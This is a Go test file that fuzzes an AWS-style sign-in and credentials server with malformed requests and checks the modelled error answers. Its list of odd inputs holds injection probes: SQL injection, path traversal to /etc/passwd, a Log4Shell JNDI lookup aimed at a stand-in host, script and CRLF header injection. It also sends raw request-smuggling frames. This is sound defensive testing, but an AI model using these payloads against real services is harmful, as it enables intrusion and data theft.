package clients

import (
	"bufio"
	"bytes"
	"cmp"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"sallyport/internal/api"
	"sallyport/test/harness"
)

// mistake is one thing that is wrong with a request, and what is answered. Without a status, nothing is wrong with it for us: the answer is the
// one that the request gets without the mistake.
type mistake struct {
	name      string
	spoil     func(m message) message
	status    int
	exception string
}

const (
	invalidRequest   = "InvalidRequestException"
	unknownOperation = "UnknownOperationException"
)

const mebibyte = 1 << 20

// anybodysMistakes can be made with every operation. They are found before the operation is.
func anybodysMistakes(operation *api.Operation) []mistake {
	path, query, _ := strings.Cut(operation.Path, "?")
	withTarget := func(path string) func(message) message { return withTarget(strings.TrimSuffix(path+"?"+query, "?")) }
	mistakes := []mistake{
		{"a method that HTTP does not have", withMethod("BREW"), 405, invalidRequest},
		{"a path with something after it", withTarget(path + "x"), 404, unknownOperation},
		{"a path with an empty segment", withTarget("/" + path), 400, invalidRequest},
		{"a path with a dot segment", withTarget("/." + path), 400, invalidRequest},
		{"a path with an encoded slash", withTarget(path + "%2F"), 400, invalidRequest},
		{"a path with a semicolon", withTarget(path + ";a=b"), 400, invalidRequest},
		{"a path that is not UTF-8", withTarget(path + "%ff"), 400, invalidRequest},
		{"a query parameter twice", withQuery("a=1&a=2"), 400, invalidRequest},
		{"a query that cannot be decoded", withQuery("a=%zz"), 400, invalidRequest},
		{"a query that is not UTF-8", withQuery("a=%ff"), 400, invalidRequest},
		{"a query of a thousand parameters", withQuery(strings.Repeat("a&", 1000)), 400, invalidRequest},
		{"a target of 20 KiB", withQuery("a=" + strings.Repeat("b", 20<<10)), 414, invalidRequest},
		{"the Host of somebody else", withHeader("Host", "portal.example"), 421, invalidRequest},
		{"three hundred header lines", withHeader("X-Line", make([]string, 300)...), 431, invalidRequest},
		{"a compressed body", withHeader("Content-Encoding", "gzip"), 415, invalidRequest},
		{"a chunked body", func(m message) message { m.chunked, m.body = true, []byte("{}"); return m }, 400, invalidRequest},
		{"a chunked body of 1 MiB", func(m message) message { m.chunked, m.body = true, make([]byte, mebibyte); return m }, 400, invalidRequest},
	}
	if operation.Service.Protocol == api.JSON { // whose query means nothing, and may hide what is meant for something else
		mistakes = append(mistakes, mistake{"an unknown query parameter", withQuery("unknown=1"), 400, unknownOperation})
	} else {
		mistakes = append(mistakes, mistake{"an unknown query parameter", withQuery("unknown=1"), 0, ""})
	}
	if path != "/" {
		mistakes = append(mistakes,
			mistake{"a path with a slash after it", withTarget(path + "/"), 404, unknownOperation},
			mistake{"a path in capitals", withTarget(strings.ToUpper(path)), 404, unknownOperation},
		)
		for _, method := range []string{"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"} {
			if method != operation.Method {
				mistakes = append(mistakes, mistake{"the method " + method, withMethod(method), 405, unknownOperation})
			}
		}
	}
	return mistakes
}

// bodyMistakes can be made with the operations that take JSON.
func bodyMistakes(operation *api.Operation) []mistake {
	first := operation.Input.Members[0].Wire
	mistakes := []mistake{
		{"no Content-Type", withHeader("Content-Type"), 415, invalidRequest},
		{"the Content-Type of forms", withHeader("Content-Type", "application/x-www-form-urlencoded"), 415, invalidRequest},
		{"JSON in Latin-1", withHeader("Content-Type", "application/json; charset=iso-8859-1"), 415, invalidRequest},
		{"two Content-Types", withHeader("Content-Type", "application/json", "text/plain"), 415, invalidRequest},
		{"JSON that says it is UTF-8", withHeader("Content-Type", "application/json; charset=UTF-8"), 0, ""},
		{"a body of 1 MiB", withBody(`{"` + first + `":"` + strings.Repeat("a", mebibyte) + `"}`), 413, invalidRequest},
		{"an unknown member", func(m message) message { return withMember(m, "unknown", `{"a":[1]}`) }, 0, ""},
		{"a member twice", func(m message) message { return addMember(m, first, `"again"`) }, 400, invalidRequest},
		{"a member twice, once escaped", func(m message) message { return addMember(m, `\u00`+fmt.Sprintf("%x", first[0])+first[1:], `"again"`) }, 400, invalidRequest},
		{"text that is not UTF-8", func(m message) message { return addMember(m, "unknown", "\"\xff\"") }, 400, invalidRequest},
		{"a name that is not UTF-8", func(m message) message { return addMember(m, "\xff", `""`) }, 400, invalidRequest},
		{"half of a surrogate pair", func(m message) message { return addMember(m, "unknown", `"\ud800"`) }, 400, invalidRequest},
		{"a line break in a text", func(m message) message { return addMember(m, "unknown", "\"\n\"") }, 400, invalidRequest},
		{"NaN", func(m message) message { return addMember(m, "unknown", "NaN") }, 400, invalidRequest},
		{"a hundred thousand brackets", func(m message) message { return addMember(m, "unknown", strings.Repeat("[", 30_000)) }, 400, invalidRequest},
		{"five thousand members", func(m message) message { return addMember(m, "unknown", "["+strings.Repeat("1,", 5000)+"1]") }, 400, invalidRequest},
		{"something after the document", func(m message) message { m.body = append(m.body, " {}"...); return m }, 400, invalidRequest},
		{"a byte order mark", func(m message) message { m.body = append([]byte("\xef\xbb\xbf"), m.body...); return m }, 400, invalidRequest},
		{"half of a document", func(m message) message { m.body = m.body[:len(m.body)/2]; return m }, 400, invalidRequest},
	}
	for _, body := range []string{"", " ", "null", "true", "7", `"text"`, "[]", "{}", "{", "}", "{'a':1}", "{a:1}", "<xml/>", "clientId=a", "\x00"} {
		mistakes = append(mistakes, mistake{fmt.Sprintf("the body %q", body), withBody(body), 400, invalidRequest})
	}
	for _, member := range operation.Input.Members {
		mistakes = append(mistakes, memberMistakes(member)...)
	}
	return mistakes
}

func memberMistakes(member *api.Member) (mistakes []mistake) {
	values := []string{`7`, `true`, `{}`, `{"a":"b"}`}
	switch member.Kind {
	case api.String:
		values = append(values, `[]`, `["text"]`, `"`+strings.Repeat("a", 20<<10)+`"`)
	case api.List:
		values = append(values, `"text"`, `[7]`, `[null]`, `[["text"]]`, `["`+strings.Repeat("a", 20<<10)+`"]`)
	}
	for _, value := range values {
		name := fmt.Sprintf("%s is %.20s", member.Wire, value)
		mistakes = append(mistakes, mistake{name, func(m message) message { return withMember(m, member.Wire, value) }, 400, invalidRequest})
	}
	null := mistake{member.Wire + " is null", func(m message) message { return withMember(m, member.Wire, "null") }, 0, ""}
	if member.Required {
		null.status, null.exception = 400, invalidRequest
		mistakes = append(mistakes,
			mistake{"no " + member.Wire, func(m message) message { return withMember(m, member.Wire, "") }, 400, invalidRequest},
			mistake{member.Wire + " in capitals", func(m message) message {
				return withMember(withMember(m, member.Wire, ""), strings.ToUpper(member.Wire), `"text"`)
			}, 400, invalidRequest},
		)
	}
	return append(mistakes, null)
}

// targetMistakes can be made with the operations whose input is in the query and a header.
func targetMistakes(operation *api.Operation) (mistakes []mistake) {
	for _, member := range operation.Input.Members {
		switch {
		case member.Location == api.Header:
			mistakes = append(mistakes,
				mistake{"no " + member.Wire, withHeader(member.Wire), 401, "UnauthorizedException"},
				mistake{member.Wire + " twice", withHeader(member.Wire, "text", "text"), 0, ""},
			)
		case member.Kind == api.Integer:
			for _, value := range []string{"", "x", "0", "101", "-1", "+1", "1.5", "1e1", "0x1", " 1", "1 ", "99999999999999999999"} {
				mistakes = append(mistakes, mistake{member.Wire + " is " + value, withQuery(member.Wire + "=" + url.QueryEscape(value)), 400, invalidRequest})
			}
		default:
			mistakes = append(mistakes, mistake{member.Wire + " twice", withQuery(member.Wire + "=a&" + member.Wire + "=a"), 400, invalidRequest})
			if member.Required {
				mistakes = append(mistakes, mistake{"no " + member.Wire, withTarget(operation.Path), 400, invalidRequest})
			}
		}
	}
	return mistakes
}

// queryMistakes can be made with the operations of the Query protocol, whose exceptions have other names.
func queryMistakes(operation *api.Operation) []mistake {
	const sound = "Action=GetCallerIdentity&Version=2011-06-15"
	mistakes := []mistake{
		{"no Content-Type", withHeader("Content-Type"), 400, unknownOperation},
		{"the Content-Type of JSON", withHeader("Content-Type", "application/json"), 400, unknownOperation},
		{"no body", withBody(""), 400, "InvalidAction"},
		{"no Action", withBody("Version=2011-06-15"), 400, "InvalidAction"},
		{"no Version", withBody("Action=GetCallerIdentity"), 400, "InvalidAction"},
		{"an Action that there is not", withBody("Action=AssumeRoot&Version=2011-06-15"), 400, "InvalidAction"},
		{"an Action in capitals", withBody("Action=GETCALLERIDENTITY&Version=2011-06-15"), 400, "InvalidAction"},
		{"an Action twice", withBody(sound + "&Action=GetCallerIdentity"), 400, "ValidationError"},
		{"a form that cannot be decoded", withBody(sound + "&a=%zz"), 400, "ValidationError"},
		{"a form of 1 MiB", withBody(sound + "&a=" + strings.Repeat("a", mebibyte)), 400, "PackedPolicyTooLarge"},
		{"a target of the JSON protocol", withHeader("X-Amz-Target", "SWBExternalService.ListInstances"), 400, unknownOperation},
		{"a target that there is not", withHeader("X-Amz-Target", "SWBExternalService.ListAll"), 400, unknownOperation},
	}
	if operation.Auth == api.AuthSigV4 {
		mistakes = append(mistakes,
			mistake{"an Authorization that is none", withHeader("Authorization", "AWS4-HMAC-SHA256"), 400, "IncompleteSignature"},
			mistake{"a password for an Authorization", withHeader("Authorization", "Basic YWxpY2U6YWxpY2U="), 400, "IncompleteSignature"},
		)
	}
	return mistakes
}

// targetedMistakes can be made with the operations of the JSON protocol.
func targetedMistakes(operation *api.Operation) []mistake {
	const serialization, validation = "SerializationException", "ValidationException"
	target := operation.Service.TargetPrefix + "." + operation.Name
	unsigned := func(m message) message { m.header["Authorization"] = []string{}; return m }
	mistakes := []mistake{
		{"no target", withHeader("X-Amz-Target"), 400, unknownOperation},
		{"two targets", withHeader("X-Amz-Target", target, target), 400, unknownOperation},
		{"a target in capitals", withHeader("X-Amz-Target", strings.ToUpper(target)), 400, unknownOperation},
		{"a target of no service", withHeader("X-Amz-Target", operation.Name), 400, unknownOperation},
		{"a target of nothing", withHeader("X-Amz-Target", ""), 400, unknownOperation},
		{"no Content-Type", withHeader("Content-Type"), 400, unknownOperation},
		{"the Content-Type of plain JSON", withHeader("Content-Type", "application/json"), 400, unknownOperation},
		{"an unknown member", func(m message) message { return withMember(m, "Unknown", `{"a":[1]}`) }, 0, ""},
		{"a body of 1 MiB", withBody(`{"a":"` + strings.Repeat("a", mebibyte) + `"}`), 400, validation},
		{"no signature", unsigned, 400, "MissingAuthenticationTokenException"},
		{"a password for an Authorization", withHeader("Authorization", "Basic YWxpY2U6YWxpY2U="), 400, "IncompleteSignatureException"},
	}
	for _, body := range []string{" ", "null", "true", "7", `"text"`, "[]", "{", "}", "{'a':1}", "{a:1}", "<xml/>", "\x00", `{"a":1}{}`, `{"a":1,"a":1}`, "{\"\xff\":1}"} {
		mistakes = append(mistakes, mistake{fmt.Sprintf("the body %q", body), withBody(body), 400, serialization})
	}
	for _, m := range operation.Input.Members {
		for _, value := range otherKinds(m.Kind) {
			name := fmt.Sprintf("%s is %s", m.Wire, value)
			mistakes = append(mistakes, mistake{name, func(message message) message { return withMember(message, m.Wire, value) }, 400, serialization})
		}
		if m.Required {
			mistakes = append(mistakes,
				mistake{"no " + m.Wire, func(message message) message { return withMember(message, m.Wire, "") }, 400, validation},
				mistake{m.Wire + " is null", func(message message) message { return withMember(message, m.Wire, "null") }, 400, validation},
			)
		}
	}
	return mistakes
}

// otherKinds are JSON values that are of another kind.
func otherKinds(kind api.Kind) []string {
	values := map[api.Kind]string{api.String: `"text"`, api.Integer: `7`, api.Boolean: `true`, api.List: `[]`, api.Structure: `{}`}
	switch kind {
	case api.Free:
		return nil
	case api.Map:
		kind = api.Structure
	case api.Long, api.Time:
		kind = api.Integer
	}
	delete(values, kind)
	return slices.Sorted(maps.Values(values))
}

func mistakesOf(operation *api.Operation) []mistake {
	mistakes := anybodysMistakes(operation)
	switch {
	case operation.Service.Protocol == api.JSON:
		return append(mistakes, targetedMistakes(operation)...)
	case operation.Service.Protocol == api.Query:
		return append(mistakes, queryMistakes(operation)...)
	case hasBody(operation):
		return append(mistakes, bodyMistakes(operation)...)
	default:
		return append(mistakes, targetMistakes(operation)...)
	}
}

func withMethod(method string) func(message) message {
	return func(m message) message { m.method = method; return m }
}

func withTarget(target string) func(message) message {
	return func(m message) message { m.target = target; return m }
}

// withQuery adds to the query, if need be in place of a parameter of the same name.
func withQuery(query string) func(message) message {
	return func(m message) message {
		path, old, _ := strings.Cut(m.target, "?")
		name, _, _ := strings.Cut(query, "=")
		kept := []string{query}
		for pair := range strings.SplitSeq(old, "&") {
			if pair != "" && !strings.HasPrefix(pair, name+"=") {
				kept = append(kept, pair)
			}
		}
		m.target = path + "?" + strings.Join(kept, "&")
		return m
	}
}

func withHeader(name string, values ...string) func(message) message {
	return func(m message) message { m.header[http.CanonicalHeaderKey(name)] = values; return m }
}

func withBody(body string) func(message) message {
	return func(m message) message { m.body = []byte(body); return m }
}

// withMember sets a member of the body to JSON text, or removes it.
func withMember(m message, name, value string) message {
	var all map[string]json.RawMessage
	if err := json.Unmarshal(m.body, &all); err != nil {
		panic(err)
	}
	if delete(all, name); value != "" {
		all[name] = json.RawMessage(value)
	}
	m.body, _ = json.Marshal(all)
	return m
}

// addMember writes a member before the others, whatever that makes of the document.
func addMember(m message, name, value string) message {
	m.body = append([]byte(`{"`+name+`":`+value+`,`), m.body[1:]...)
	return m
}

func TestMistakesAreAnsweredWithModelledErrors(t *testing.T) {
	w := newWitness(t, harness.Start(t, "--register-rate", "0"))
	for _, service := range api.Served {
		for _, operation := range service.Answered() {
			sound := func() message { return compose(operation, wellFormed(operation)) }
			signer := adminKey(w.server)
			want := w.deliver(t, sound().signedBy(signer, operation))
			t.Run(operation.Name, func(t *testing.T) {
				for _, row := range mistakesOf(operation) {
					t.Run(row.name, func(t *testing.T) {
						got := w.deliver(t, row.spoil(sound()).signedBy(signer, operation))
						status, exception := row.status, row.exception
						if status == 0 {
							status, exception = want.status, want.header.Get("X-Amzn-Errortype")
						}
						if got.status != status || got.header.Get("X-Amzn-Errortype") != exception {
							t.Errorf("answered with %v, want %d %s", got, status, exception)
						}
					})
				}
			})
		}
	}
	w.checkLog(t)
}

// oddTexts are what no client sends in a member, and somebody will.
var oddTexts = []string{
	"", " ", "\x00", "a\x00b", "\u202etxt.exe", "\ufeff", "💥", strings.Repeat("a", 16<<10), strings.Repeat("é", 1000), "' OR 1=1 --", "%s%n%x", "%00",
	"../../etc/passwd", "{{7*7}}", "${jndi:ldap://host.example/a}", "<script>alert(1)</script>", "\r\nSet-Cookie: a=b", "null", "-1", "aoa", "aor",
	"http://[::1", "https://user@host.example/", "urn:ietf:params:oauth:grant-type:device_code",
}

// soundInputs are inputs that get far: each of a client that is known, or a person who is signed in.
func soundInputs(p *party) map[*api.Operation][]members {
	device, browser := p.register(nil), p.register(p.browserRegistration())
	deviceCode, _ := p.start(device)
	code, redirectURI, verifier := p.browserSignIn(browser)
	tokens := p.signIn(device, "alice")
	bearer := members{"accessToken": tokens.text("accessToken")}
	account := bearer.with(members{"accountId": "111122223333"})
	return map[*api.Operation][]members{
		registerClient: {sessionRegistration.with(p.browserRegistration()).with(members{"entitledApplicationArn": ""})},
		startDevice:    {{"clientId": device.id, "clientSecret": device.secret, "startUrl": p.server.StartURL}},
		createToken: {
			device.token(deviceGrant, members{"deviceCode": deviceCode}),
			device.token(refreshGrant, members{"refreshToken": tokens.text("refreshToken")}),
			browser.token(codeGrant, members{"code": code, "redirectUri": redirectURI, "codeVerifier": verifier}),
		},
		listAccounts:       {bearer.with(members{"nextToken": ""})},
		listAccountRoles:   {account.with(members{"nextToken": ""})},
		getRoleCredentials: {account.with(members{"roleName": "Billing"})},
		logout:             {{"accessToken": "unknown"}},
	}
}

func TestOddTextsAreAnsweredWithModelledErrors(t *testing.T) {
	server := harness.Start(t, "--register-rate", "0", "--device-start-rate", "0")
	w := newWitness(t, server)
	for operation, inputs := range soundInputs(&party{T: t, server: server, client: goSDK{}}) {
		for _, in := range inputs {
			for name := range in {
				for _, odd := range oddTexts {
					if operation.Input.Member(name).Location == api.Header && strings.ContainsAny(odd, "\x00\r\n") {
						continue // net/http does not send it
					}
					var value any = odd
					if operation.Input.Member(name).Kind == api.List {
						value = []string{odd}
					}
					got := w.deliver(t, compose(operation, in.with(members{name: value})))
					if got.status != http.StatusOK && !mayAnswer(operation, got.header.Get("X-Amzn-Errortype")) {
						t.Errorf("%s with %s %.40q: %v", operation.Name, name, odd, got)
					}
				}
			}
		}
	}
	w.checkLog(t)
}

// mayAnswer reports whether the operation has an exception of the name, in the model or beside it.
func mayAnswer(operation *api.Operation, exception string) bool {
	for _, kind := range append(append(operation.Refusals[:0:0], operation.Refusals...), operation.Unlisted...) {
		if kind.Name == exception {
			return true
		}
	}
	return false
}

// These cannot be sent with net/http.
func TestBrokenFramesAreAnsweredWithModelledErrors(t *testing.T) {
	w := newWitness(t, harness.Start(t))
	host := strings.TrimPrefix(w.server.Endpoint, "http://")
	head := "POST /token HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: application/json\r\n"
	for _, row := range []struct{ name, request string }{
		{"a body shorter than it says", head + "Content-Length: 100\r\n\r\n{\"clientId\":"},
		{"a body framed twice", head + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"},
		{"a chunk that ends early", head + "Transfer-Encoding: chunked\r\n\r\nff\r\n{}"},
		{"a target with a host", strings.Replace(head, "/token", "http://portal.example/token", 1) + "Content-Length: 2\r\n\r\n{}"},
	} {
		t.Run(row.name, func(t *testing.T) {
			connection, err := net.Dial("tcp", host)
			if err != nil {
				t.Fatal(err)
			}
			defer connection.Close()
			if _, err := io.WriteString(connection, row.request); err != nil {
				t.Fatal(err)
			}
			connection.(*net.TCPConn).CloseWrite()
			response, err := http.ReadResponse(bufio.NewReader(connection), nil)
			if err != nil {
				t.Fatal(err)
			}
			defer response.Body.Close()
			body, err := io.ReadAll(response.Body)
			if err != nil {
				t.Fatal(err)
			}
			got := answer{response.StatusCode, response.Header, body}
			w.check(t, got)
			if got.status != 400 || !got.refuses(invalidRequest) {
				t.Errorf("answered with %v, want 400 %s", got, invalidRequest)
			}
		})
	}
	w.checkLog(t)
}

// witness looks at every answer of a server for what none may have, and for what all must.
type witness struct {
	plain
	requestIDs map[string]bool
}

func newWitness(t *testing.T, s *harness.Server) *witness {
	return &witness{newPlain(t, s, 1), map[string]bool{}}
}

func (w *witness) deliver(t *testing.T, m message) answer {
	t.Helper()
	got, err := w.plain.deliver(m)
	if err != nil {
		t.Fatal(err)
	}
	w.check(t, got)
	return got
}

// entrails are what the inside of a program looks like.
var entrails = regexp.MustCompile(`goroutine \d|\.go:\d|runtime error|panic|(?i:sqlite)|SELECT |UPDATE `)

func (w *witness) check(t *testing.T, got answer) {
	t.Helper()
	id := got.header.Get("X-Amzn-Requestid")
	switch {
	case got.status >= http.StatusInternalServerError:
		t.Errorf("the server failed: %v", got)
	case !isRequestID(id) || w.requestIDs[id]:
		t.Errorf("the request id %q is none, or was there before", id)
	case entrails.Match(got.body):
		t.Errorf("the answer shows what nobody should see: %v", got)
	case got.status != http.StatusOK:
		w.checkRefusal(t, got, id)
	}
	w.requestIDs[id] = true
}

func (w *witness) checkRefusal(t *testing.T, got answer, id string) {
	t.Helper()
	exception, message := got.json().text("__type"), cmp.Or(got.json().text("message"), got.json().text("Message"))
	if got.header.Get("Content-Type") == "text/xml" {
		var document struct {
			Code      string `xml:"Error>Code"`
			Message   string `xml:"Error>Message"`
			RequestID string `xml:"RequestId"`
		}
		if err := xml.NewDecoder(bytes.NewReader(got.body)).Decode(&document); err != nil || document.RequestID != id {
			t.Errorf("the XML is unreadable, or has not the request id %s: %v", id, got)
		}
		exception, message = document.Code, document.Message
	}
	if exception == "" || exception != got.header.Get("X-Amzn-Errortype") || message == "" {
		t.Errorf("the exception is %q in the header and %q in the body, with the message %q", got.header.Get("X-Amzn-Errortype"), exception, message)
	}
}

// checkLog looks for failures that the answers did not show.
func (w *witness) checkLog(t *testing.T) {
	t.Helper()
	w.server.Stop()
	for line := range strings.Lines(w.server.Log.String()) {
		if strings.Contains(line, "ERROR") || strings.Contains(line, "panic") {
			t.Errorf("the server logged a failure: %s", line)
		}
	}
}
